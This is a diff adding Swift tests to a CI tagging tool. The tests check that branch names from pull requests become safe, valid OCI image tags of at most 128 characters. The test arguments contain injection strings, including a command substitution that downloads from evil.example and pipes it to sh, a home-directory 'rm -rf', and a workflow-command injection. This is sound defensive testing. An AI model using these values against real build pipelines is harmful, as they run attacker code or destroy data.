@@ -123,3 +123,35 @@ import Versioning
     #expect(TagRules.sanitize(text) == expected)
   }
 }
+
+/// Branch names come from whoever opens a pull request (`ref: ${{ github.head_ref }}`, a
+/// pushed branch): the tags built from them are OCI tags of at most 128 characters with room
+/// for tag-prefix and tag-suffix, and no character a shell or a reference would read.
+@Suite struct HostileBranchTagTests {
+  func plan(branch: String, prefix: String = "", suffix: String = "", template: String = "{{branch}}") throws -> [String] {
+    var r = TagRequest(environment: "dev", version: nil, sha: "7d2a1b4c9e0f1234567890abcdef123456789012", branch: branch, kinds: [.sha])
+    r.prefix = prefix
+    r.suffix = suffix
+    r.extraTemplates = [template]
+    return try TagRules.plan(r).map(\.tag)
+  }
+
+  @Test func aLongBranchLeavesRoomForTheAffixes() throws {
+    let branch = "feature/" + String(repeating: "x", count: 250)
+    let tags = try plan(branch: branch, prefix: "app-", suffix: "-alpine")
+    #expect(tags.count == 2)
+    let extra = try #require(tags.last)
+    #expect(extra.count == 128 && extra.hasPrefix("app-feature-xxx") && extra.hasSuffix("x-alpine"), "\(extra)")
+    #expect(TagRules.isValidTag(extra))
+    #expect(try plan(branch: branch, template: "pr-{{branch}}-{{sha7}}").last?.count == 128)
+  }
+
+  @Test(arguments: [
+    "$(curl${IFS}evil.example|sh)", "a;rm${IFS}-rf${IFS}~", "`id`", "x'\"\\", "::set-output name=x::1", "ré\u{301}lease/ｆｕｌｌ", "..--x", "a\u{2028}b\r\nc",
+  ])
+  func hostileBranchesBecomePlainTags(_ branch: String) throws {
+    let tag = try #require(try plan(branch: "pr-" + branch, prefix: "p_").last)
+    #expect(TagRules.isValidTag(tag), "\(tag)")
+    #expect(tag.allSatisfy { $0.isASCII && ($0.isLetter || $0.isNumber || "._-".contains($0)) }, "\(tag)")
+  }
+}
